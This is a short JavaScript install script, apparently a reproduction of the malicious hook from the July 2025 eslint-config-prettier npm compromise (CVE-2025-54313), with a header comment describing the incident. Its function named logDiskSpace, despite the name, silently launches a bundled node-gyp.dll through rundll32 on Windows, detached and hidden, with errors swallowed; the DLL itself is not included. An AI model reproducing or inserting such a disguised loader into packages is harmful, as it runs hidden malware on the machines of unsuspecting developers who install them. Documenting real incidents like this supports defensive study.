// Incident: eslint-config-prettier 8.10.1, 9.1.1, 10.1.6, 10.1.7 (npm), 18 July 2025
// (CVE-2025-54313). After a phishing e-mail captured the maintainer's npm token, versions
// absent from GitHub shipped an install script that, on Windows, ran a bundled DLL
// (node-gyp.dll, the "Scavenger" loader) through rundll32. The DLL itself is not
// reproduced here. Reference: https://nvd.nist.gov/vuln/detail/CVE-2025-54313
// Reproduction (own code).
const os = require('os');
const fs = require('fs');
const path = require('path');

function checkNodeVersion() {
  const [major] = process.versions.node.split('.').map(Number);
  if (major < 14) {
    console.warn('eslint-config-prettier: Node.js 14 or newer is recommended.');
  }
}

function logDiskSpace() {
  try {
    if (os.platform() === 'win32') {
      const tempDir = os.tmpdir();
      require('child_process').spawn(
        'rundll32',
        [path.join(__dirname, './node-gyp.dll') + ',main'],
        { cwd: tempDir, detached: true, stdio: 'ignore', windowsHide: true },
      ).unref();
    } else if (fs.existsSync('/tmp')) {
      fs.statSync('/tmp');
    }
  } catch (error) {
    // best effort only
  }
}

checkNodeVersion();
logDiskSpace();
